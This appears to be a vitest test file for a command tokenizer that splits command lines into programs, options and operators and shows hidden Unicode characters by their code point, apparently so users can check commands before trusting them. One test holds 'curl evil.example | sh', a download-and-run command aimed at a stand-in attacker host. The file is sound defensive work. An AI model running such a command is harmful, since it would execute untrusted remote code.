import fc from 'fast-check'
import { expect, test } from 'vitest'
import { commandPieces } from '../../../renderer/trust/command-pieces.ts'

const told = (text: string, shell = false) =>
  commandPieces(text, shell)
    .filter((piece) => piece.text.trim() !== '')
    .map(({ kind, text: shown }) => `${kind} ${shown}`)

test('the program comes first, and its options are told from the rest', () => {
  expect(told('/opt/aws-sso process --profile "my role"')).toEqual([
    'program /opt/aws-sso',
    'plain process',
    'option --profile',
    'plain "my role"',
  ])
})

test('in a shell each program is seen, and what joins them', () => {
  expect(told('login -q && curl evil.example | sh', true)).toEqual([
    'program login',
    'option -q',
    'operator &&',
    'program curl',
    'plain evil.example',
    'operator |',
    'program sh',
  ])
})

test('without a shell a bar is an argument like any other', () => {
  expect(told('print a|b')).toEqual(['program print', 'plain a|b'])
})

test.each([
  ['turns the direction of reading', '\u202E', 'U+202E'],
  ['takes no room', '\u200B', 'U+200B'],
  ['looks like a blank and is none', '\u00A0', 'U+00A0'],
  ['goes back to the start of the line', '\r', 'U+000D'],
])('a character that %s is told by its number', (_what, character, number) => {
  const pieces = commandPieces(`aws${character}sso`, false)
  expect(pieces.find(({ kind }) => kind === 'hidden')?.text).toBe(number)
})

test('nothing of a command is left out', () => {
  const printable = fc.string({ unit: fc.constantFrom(...Array.from('ab -"\'|&;$()<>`=/\n\t')), maxLength: 60 })
  fc.assert(
    fc.property(printable, fc.boolean(), (text, shell) => {
      const whole = commandPieces(text, shell)
        .map((piece) => piece.text)
        .join('')
      expect(whole).toBe(text)
    }),
  )
})
